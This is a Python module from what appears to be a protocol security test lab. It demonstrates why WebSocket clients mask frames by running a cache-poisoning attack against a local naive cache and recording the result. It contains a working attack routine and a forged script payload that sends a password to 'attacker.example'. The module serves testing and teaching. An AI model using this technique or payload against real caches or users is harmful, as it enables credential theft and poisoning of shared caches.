"""Why does a client mask its frames, with a key that nobody can guess?

A page of the attacker's opens a WebSocket to the attacker's server and sends one message, which he has written: it
looks like a request for a script of another site. The server answers with a script of its own. A cache on the way
that knows no WebSocket (:mod:`rtlab.experiments.naive_cache`) keeps that script as the other site's, for everybody
behind it. A mask makes the payload unreadable on the wire, and the attacker cannot choose a message that the mask
turns into a request, because each frame has a new key.

Servers do not mask: what stands in their frames answers no request that a cache has seen.

Spec: RFC 6455 10.3
"""

from __future__ import annotations

import asyncio
import secrets

from rtlab.codecs.http1 import RequestHead, encode_request_head, encode_response_head
from rtlab.codecs.websocket_frames import BINARY, CLOSE, FrameDecoder, encode_frame
from rtlab.codecs.websocket_handshake import check_opening_request, make_key, opening_request, opening_response
from rtlab.experiments.attacked_server import TIMEOUT_S, AttackedServer, ask
from rtlab.experiments.naive_cache import Key, NaiveCache
from rtlab.findings.attacks import Attempt, Target
from rtlab.loop_thread import shared
from rtlab.servers.lab import Lab, start_lab

SITE = "bank.example"
SCRIPT_PATH = "/script.js"
HONEST_SCRIPT = b'show("balance")'
FORGED_SCRIPT = b'send("password", "attacker.example")'
_FIX = (
    "Clients mask each frame with a fresh key that nobody can guess, and servers close with 1002 if one does not."
)
_SPEC = "RFC 6455 5.3 and 10.3"
_KEY = make_key(bytes(16))


def attempts() -> tuple[Attempt, ...]:
    """Try to poison a cache: with a frame without a mask, with a masked one, and at a lab."""
    with start_lab(f"attacked-{secrets.token_hex(4)}") as lab:
        return shared.call(lambda: _attempts(lab), 4 * TIMEOUT_S)


def disguised_request() -> bytes:
    """Give the message that looks like a request for the other site's script.

    It begins with a line end, so that the cache sees a new line after the frame's header.
    """
    request = RequestHead("GET", SCRIPT_PATH, (("Host", SITE),))
    return b"\r\n" + encode_request_head(request)


async def _attempts(lab: Lab) -> tuple[Attempt, ...]:
    message = disguised_request()
    plain = encode_frame(BINARY, message)
    masked = encode_frame(BINARY, message, masking_key=secrets.token_bytes(4))
    async with AttackedServer(_serve_attacker) as attacker, AttackedServer(_serve_site) as site:
        return (
            await _try(attacker.port, "/", site.port, "naive", plain),
            await _try(attacker.port, "/", site.port, "fixed", masked),
            await _try(
                lab.port, "/echo", site.port, "default lab", plain + encode_frame(BINARY, _script(FORGED_SCRIPT))
            ),
        )


async def _try(server_port: int, path: str, site_port: int, target: Target, frames: bytes) -> Attempt:
    stored: dict[Key, bytes] = {}
    async with NaiveCache(server_port, stored) as before_server, NaiveCache(site_port, stored) as before_site:
        opening = opening_request(f"127.0.0.1:{before_server.port}", path, _KEY)
        answer = await ask(before_server.port, encode_request_head(opening), after_head=frames)
        # Somebody else, behind the same cache, asks the other site itself.
        request = RequestHead("GET", SCRIPT_PATH, (("Host", SITE), ("Connection", "close")))
        got = await ask(before_site.port, encode_request_head(request))
    succeeded = FORGED_SCRIPT in got
    closed = f"The server closes with {code}. " if (code := _close_code(answer)) else ""
    whose = "the attacker's" if succeeded else "its own"
    seen = f"{closed}Somebody else asks {SITE} for its script, and gets {whose}."
    return Attempt(
        "a request in a frame, for a cache",
        "masking",
        "websocket",
        target,
        succeeded,
        seen,
        frames,
        got,
        _FIX,
        _SPEC,
    )


async def _serve_attacker(
    head: RequestHead, body: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Answer the first frame, whatever it is, as if it were a request for the script."""
    writer.write(encode_response_head(opening_response(check_opening_request(head))))
    await reader.read(1)
    writer.write(_script(FORGED_SCRIPT))


async def _serve_site(
    head: RequestHead, body: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    writer.write(_script(HONEST_SCRIPT))


def _script(text: bytes) -> bytes:
    """Write an answer that caches may keep."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nCache-Control: max-age=86400\r\n"
    return head + b"Content-Length: %d\r\n\r\n%s" % (len(text), text)


def _close_code(answer: bytes) -> int | None:
    """Give the code of a server's close frame, or None if its head is followed by something else."""
    answer = answer.partition(b"\r\n\r\n")[2]
    if answer[:1] != bytes((0x80 | CLOSE,)):
        return None
    (frame,) = FrameDecoder().feed(answer)[:1]
    return int.from_bytes(frame.payload[:2])
